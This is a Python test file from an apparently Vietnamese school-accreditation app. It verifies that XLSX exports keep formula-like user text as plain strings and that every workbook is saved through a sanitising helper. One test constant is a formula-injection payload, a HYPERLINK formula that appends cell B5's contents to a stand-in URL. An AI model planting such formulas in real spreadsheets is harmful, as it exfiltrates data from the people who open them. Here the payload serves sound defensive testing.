"""Issue 13 finding 6: text a school types never becomes a live formula in a downloaded spreadsheet.

Each XLSX export that shows typed text is rendered with an evidence item (or plan action, or
indicator) named like a formula, opened back with openpyxl, and the cell must be a plain string
holding exactly what was typed. A scan keeps every exporter on the one helper that does it.
"""

from __future__ import annotations

import ast
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from exports.exporters.sheets import EvidenceListXlsxExporter
from exports.tests.sample import report_dict
from exports.xlsx import Column, WorkbookWriter
from kiemdinh import xlsxsafe

ATTACK = '=HYPERLINK("http://x"&B5,"Mở")'
TEXTS = [ATTACK, "+84 912 345 678", "-5% so với năm trước", "@SUM(A1:A3)", "\tthụt đầu dòng", "\rđầu dòng", "=1+1"]
ROOT = Path(__file__).resolve().parents[2]


def _cells_holding(content: bytes, text: str) -> list:
    book = load_workbook(io.BytesIO(content))
    found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]
    assert found, f"{text!r} is not in the workbook"
    return found


def _assert_text(content: bytes, text: str) -> None:
    for cell in _cells_holding(content, text):
        assert cell.data_type == "s", (cell.coordinate, cell.data_type)
        assert cell.quotePrefix, cell.coordinate  # Excel keeps it text even when the cell is edited


@pytest.mark.parametrize("text", TEXTS)
def test_the_shared_sheet_writer_keeps_formula_like_text_as_text(text):
    book = WorkbookWriter()
    sheet = book.sheet("Thử", [Column("Tên"), Column("Số", kind="int")])
    sheet.add([text, 5])
    sheet.add(["Bình thường", -5])
    sheet.finish()
    content = book.save()
    _assert_text(content, text)
    plain = _cells_holding(content, "Bình thường")[0]
    assert plain.data_type == "s" and not plain.quotePrefix
    assert _cells_holding(content, -5)[0].data_type == "n"  # numbers stay numbers


def test_a_normal_workbook_saved_through_the_helper_keeps_text_as_text():
    from openpyxl import Workbook

    book = Workbook()
    book.active.append([ATTACK, "=2*3", 7])
    content = xlsxsafe.workbook_bytes(book)
    _assert_text(content, ATTACK)
    _assert_text(content, "=2*3")


def test_report_evidence_list_export_keeps_an_evidence_name_as_text():
    data = report_dict(evidence_items=30, sentences=1)
    data["evidence"][0]["name"] = ATTACK
    data["evidence"][1]["issuer"] = "-Tổ chuyên môn"
    _name, _type, content = EvidenceListXlsxExporter(data).render()
    _assert_text(content, ATTACK)
    _assert_text(content, "-Tổ chuyên môn")


@pytest.mark.django_db
def test_school_evidence_list_export_keeps_an_evidence_name_as_text(school_a):
    from evidence.exporters import EvidenceListExporter
    from evidence.tests.factories import EvidenceFactory, VersionFactory, build_catalog

    criteria = build_catalog(VersionFactory(), ["1.1"])
    item = EvidenceFactory(school=school_a, criterion=criteria["1.1"], name=ATTACK, note="@ghi chú", issuer="+Sở")
    _name, _type, content = EvidenceListExporter(school_a, [item]).render()
    for text in (ATTACK, "@ghi chú", "+Sở"):
        _assert_text(content, text)


def test_catalog_template_export_keeps_indicator_text_as_text_and_reads_back_the_same():
    from standards.exporters import CatalogXlsxExporter
    from standards.importers import SHEET_INDICATORS, parse_xlsx

    data = {
        "code": "THU/2018", "title": "Bộ thử", "catalog": {"family": "2018", "level_count": 3},
        "standards": [{"number": 1, "title": "Tiêu chuẩn", "criteria": [{
            "number": "1.1", "title": "Tiêu chí", "levels": {"1": [{"key": "a", "text": ATTACK}], "2": [], "3": []},
        }]}],
    }
    _name, _type, content = CatalogXlsxExporter(data).render()
    _assert_text(content, ATTACK)
    parsed, _locations, issues = parse_xlsx(content)
    assert not [i for i in issues if i.where == SHEET_INDICATORS], issues
    assert parsed["standards"][0]["criteria"][0]["levels"]["1"][0]["text"] == ATTACK


def _python_files():
    skip = {".venv", "tests", "migrations", "bench", "node_modules"}
    for path in ROOT.rglob("*.py"):
        if not skip.intersection(path.relative_to(ROOT).parts):
            yield path


def test_every_workbook_the_project_writes_goes_through_the_helper():
    """No module saves an openpyxl workbook itself, nor makes write-only cells of its own."""
    offenders = []
    for path in _python_files():
        source = path.read_text(encoding="utf-8")
        if "openpyxl" not in source or path.name == "xlsxsafe.py":
            continue
        for node in ast.walk(ast.parse(source)):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            # workbook.save(target) takes where to write; a model's save() or WorkbookWriter.save() takes nothing.
            if (name == "save" and node.args) or name == "WriteOnlyCell":
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}()")
    assert not offenders, "save workbooks with kiemdinh.xlsxsafe.workbook_bytes: " + ", ".join(offenders)
